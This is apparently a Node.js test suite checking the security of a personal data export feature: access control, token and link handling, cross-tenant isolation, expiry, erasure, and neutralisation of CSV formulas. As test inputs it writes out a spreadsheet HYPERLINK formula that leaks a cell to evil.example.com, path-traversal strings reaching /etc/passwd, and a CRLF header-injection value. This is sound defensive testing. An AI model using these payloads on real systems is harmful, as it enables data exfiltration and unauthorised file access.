// What a person takes along, from outside: the files that they get, and everybody else who tries to.
import { validate } from '@jsonresume/schema';
import assert from 'node:assert/strict';
import { request as plain } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { test } from 'node:test';
import { data, mutate, request } from '../../journey/lib/graphql.mjs';
import { production, setting } from '../../journey/lib/service.mjs';
import { documents, evidence, organisation } from '../../journey/lib/story.mjs';

const canary = 'canary-51ce';
const formula = `=HYPERLINK("https://evil.example.com/?x="&A1,"${canary}")`;
const errors = 'userErrors { code field }';
const ask = `mutation($input: RequestExportInput!) {
  requestExport(input: $input) { export { id state expiresAt } links ${errors} } }`;
const states = `query($id: String!) { person(by: { externalId: $id }) { exports { id state } } }`;
const other = 'https://other.example.com';

const fetched = (service, path, token, more = {}) =>
  fetch(`${service.url}${path}`, { redirect: 'manual', headers: token ? { Authorization: `Bearer ${token}` } : {}, ...more });

/** The status of a path that is sent to the letter: `fetch` would tidy it up. */
const raw = (service, path, token) =>
  new Promise((resolve, reject) => {
    const { hostname, port } = new URL(service.url);
    const sent = plain({ hostname, port, path, headers: { Authorization: `Bearer ${token}` } }, (answer) => {
      answer.resume();
      answer.on('end', () => resolve(answer.statusCode));
    });
    sent.on('error', reject);
    sent.end();
  });

async function ready(service, subject, name = subject) {
  const { person } = await data(service, subject, states, { id: name });
  return person.exports.length > 0 && person.exports.every(({ state }) => state === 'READY');
}

/** The paths of a new export, by the names of their files. */
async function exported(service, subject, personId) {
  const { links, userErrors } = await mutate(service, subject, ask, { input: { personId } });
  assert.deepEqual(userErrors, []);
  for (let turn = 0; !(await ready(service, subject)); turn += 1) {
    assert.ok(turn < 100, 'it is put together within seconds');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return Object.fromEntries(links.map((path) => [path.split('/').pop(), path]));
}

/** The rows of CSV without line ends in its cells. */
function table(text) {
  const cells = (line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map(([, cell]) => cell.replace(/^"|"$/g, '').replaceAll('""', '"'));
  const [head, ...rows] = text.trimEnd().split('\n').map(cells);
  return rows.map((row) => Object.fromEntries(head.map((name, n) => [name, row[n]])));
}

test('a person takes along what is known of them, and nobody else gets it', async (t) => {
  const service = await production();
  t.after(() => service.end());
  const ids = await organisation(service);
  for (const more of [{ title: formula, body: `Body ${canary}` }, { title: `Plain ${canary}`, body: '-1+1' }]) {
    await mutate(service, 'mira', documents.recordEvidence, { input: evidence(ids, more) });
  }
  const { links, userErrors } = await mutate(service, 'tomas', ask, { input: { personId: ids.people.mira } });
  assert.deepEqual([links, userErrors[0].code], [null, 'FORBIDDEN'], 'not even their manager asks for it');
  const looked = await request(service, 'tomas', states, { id: 'mira' });
  assert.deepEqual([looked.data.person.exports, looked.errors[0].extensions.code], [null, 'FORBIDDEN']);
  const paths = await exported(service, 'mira', ids.people.mira);
  const token = service.token('mira');
  const missing = async (path, whose = token) => {
    const answer = await fetched(service, path, whose);
    assert.equal(answer.status, 404, path);
    assert.equal((await answer.json()).errors[0].extensions.code, 'NOT_FOUND');
  };

  await t.test('data.json says what was recorded, and names others by what they are to the person', async () => {
    const answer = await fetched(service, paths['data.json'], token);
    assert.equal(answer.status, 200);
    const content = await answer.json();
    assert.equal(content.format, 'waymark-export-1');
    assert.equal(content.tables.person[0].email, 'mira@example.com');
    assert.deepEqual(content.tables.evidence.map(({ title }) => title).sort(), [formula, `Plain ${canary}`].sort());
    assert.ok(!/tomas|noor/i.test(JSON.stringify(content)));
  });

  await t.test('resume.json is a JSON Resume', async () => {
    await mutate(service, 'tomas', documents.attestSkill, { input: { personId: ids.people.mira, skillId: ids.skills.sql, level: 3 } });
    Object.assign(paths, await exported(service, 'mira', ids.people.mira));
    const resume = await (await fetched(service, paths['resume.json'], token)).json();
    assert.equal(await promisify(validate)(resume), true);
    assert.deepEqual([resume.basics.name, resume.work.length, resume.skills.length], ['Mira', 1, 1]);
    assert.equal(resume.work[0].startDate, '2025-01-01');
  });

  await t.test('the tables are CSV, and no cell is a formula', async () => {
    for (const name of ['person', 'assignments', 'evidence', 'skills', 'roles', 'erasureRequests']) {
      const answer = await fetched(service, paths[`${name}.csv`], token);
      assert.deepEqual([answer.status, answer.headers.get('content-type')], [200, 'text/csv; charset=utf-8'], name);
      for (const row of table(await answer.text())) {
        for (const cell of Object.values(row)) assert.ok(!/^[=+@\t\r]|^-(?![\d.]+$)/.test(cell), cell);
      }
    }
    const rows = table(await (await fetched(service, paths['evidence.csv'], token)).text());
    assert.ok(rows.some(({ title }) => title === `'${formula}`));
    assert.ok(rows.some(({ body }) => body === "'-1+1"));
  });

  await t.test('a browser stores it, shows nothing, and keeps nothing', async () => {
    for (const [name, path] of Object.entries(paths)) {
      const { headers } = await fetched(service, path, token);
      assert.equal(headers.get('content-disposition'), `attachment; filename="${name}"`);
      assert.equal(headers.get('x-content-type-options'), 'nosniff');
      assert.match(headers.get('cache-control'), /no-store/);
      assert.equal(headers.get('access-control-allow-origin'), null);
    }
  });

  await t.test('the link alone opens nothing', async () => {
    for (const whose of [undefined, 'x', `${token}x`]) {
      const answer = await fetched(service, paths['data.json'], whose);
      assert.deepEqual([answer.status, answer.headers.get('www-authenticate')], [401, 'Bearer']);
    }
    const inQuery = await fetched(service, `${paths['data.json']}?access_token=${token}`);
    assert.equal(inQuery.status, 401, 'a token in the address is none');
    for (const subject of ['tomas', 'noor']) await missing(paths['data.json'], service.token(subject));
  });

  await t.test('nor does the token alone: a link that is guessed, changed or replaced', async () => {
    const [, , secret] = paths['data.json'].split('/');
    const changed = `${secret.slice(0, -2)}${secret.endsWith('AA') ? 'BB' : 'AA'}`;
    for (const guess of [changed, secret.slice(0, -1), `${secret}A`, secret.toUpperCase(), 'A'.repeat(43), '%00', "'", 'x'.repeat(5000)]) {
      await missing(`/exports/${guess}/data.json`);
    }
    const hash = (await service.database((client) => client.query('select link_hash from data_export'))).rows[0].link_hash;
    await missing(`/exports/${hash}/data.json`);
    const first = { ...paths };
    Object.assign(paths, await exported(service, 'mira', ids.people.mira));
    await missing(first['data.json']);
  });

  await t.test('tricks with methods and paths', async () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
      assert.equal((await fetched(service, paths['data.json'], token, { method })).status, 405, method);
    }
    const head = await fetched(service, paths['data.json'], token, { method: 'HEAD' });
    assert.deepEqual([head.status, await head.text()], [200, '']);
    const folder = paths['data.json'].slice(0, -'data.json'.length);
    const names = ['../data.json', '..%2fdata.json', 'data.json/', 'data.json%00', 'DATA.JSON', 'data.json.csv', 'tables.csv', '.csv', '',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'person.csv%0d%0aX-Evil:1', 'evidence.csv;x'];
    for (const name of names) assert.equal(await raw(service, folder + name, token), 404, name);
    assert.equal(await raw(service, `/exports/x/..${paths['data.json']}`, token), 404);
    const twice = await fetched(service, paths['data.json'], undefined, { headers: [['Authorization', `Bearer ${token}`], ['Authorization', 'x']] });
    assert.equal(twice.status, 401);
  });

  await t.test('a dump shows nothing of it', async () => {
    const dump = (await service.dump()).toLowerCase();
    assert.match(dump, /data_export \(/);
    const [, , secret] = paths['data.json'].split('/');
    for (const text of [canary, 'mira', 'example.com', secret.toLowerCase()]) {
      assert.ok(!dump.includes(text) && !dump.includes(Buffer.from(text).toString('hex')), text);
    }
  });

  await t.test('the same subject of another tenant is somebody else', async () => {
    const pem = join(service.folder, 'issuer.pem');
    const issuer = { audience: 'waymark', public_key_file: pem, administrators: ['noor'] };
    await service.restart({
      WAYMARK_AUTH__ISSUERS: setting([{ issuer: 'https://issuer.example.com', ...issuer }, { issuer: other, tenant: 'other', ...issuer }]),
    });
    const theirs = { ...service, token: (subject) => service.token(subject, { iss: other }) };
    const strangers = await organisation(theirs);
    await missing(paths['data.json'], theirs.token('mira'));
    const own = await exported(theirs, 'mira', strangers.people.mira);
    assert.equal((await fetched(service, own['data.json'], theirs.token('mira'))).status, 200);
    await missing(own['data.json']);
    const { userErrors } = await mutate(theirs, 'mira', ask, { input: { personId: ids.people.mira } });
    assert.equal(userErrors[0].code, 'NOT_FOUND');
    assert.equal((await fetched(service, paths['data.json'], token)).status, 200, 'the first one is as it was');
  });

  await t.test('when its time is over it is gone', async () => {
    await service.database((client) => client.query("update data_export set expires_at = (extract(epoch from now()) * 1000)::bigint - 1"));
    for (const path of Object.values(paths)) await missing(path);
    assert.deepEqual((await data(service, 'mira', states, { id: 'mira' })).person.exports, []);
  });

  await t.test('whoever is erased meanwhile has left nothing behind', async () => {
    Object.assign(paths, await exported(service, 'mira', ids.people.mira));
    const count = async () => (await service.database((client) => client.query('select 1 from data_export where expires_at > 9e11'))).rows.length;
    const before = await count();
    const asked = await mutate(service, 'mira', `mutation($input: RequestErasureInput!) { requestErasure(input: $input) { request { id } } }`,
      { input: { personId: ids.people.mira } });
    const approved = await mutate(service, 'noor', `mutation($input: ApproveErasureInput!) { approveErasure(input: $input) { request { state } } }`,
      { input: { requestId: asked.request.id } });
    assert.equal(approved.request.state, 'FULFILLED');
    assert.equal((await fetched(service, paths['data.json'], token)).status, 401);
    assert.equal(await count(), before - 1);
    // Somebody who comes under the same name afterwards is somebody else.
    const csv = 'external_id,name,email\nmira,Mira,mira@example.com\n';
    await mutate(service, 'noor', documents.importPeople, { input: { csv } });
    await missing(paths['data.json']);
  });
});
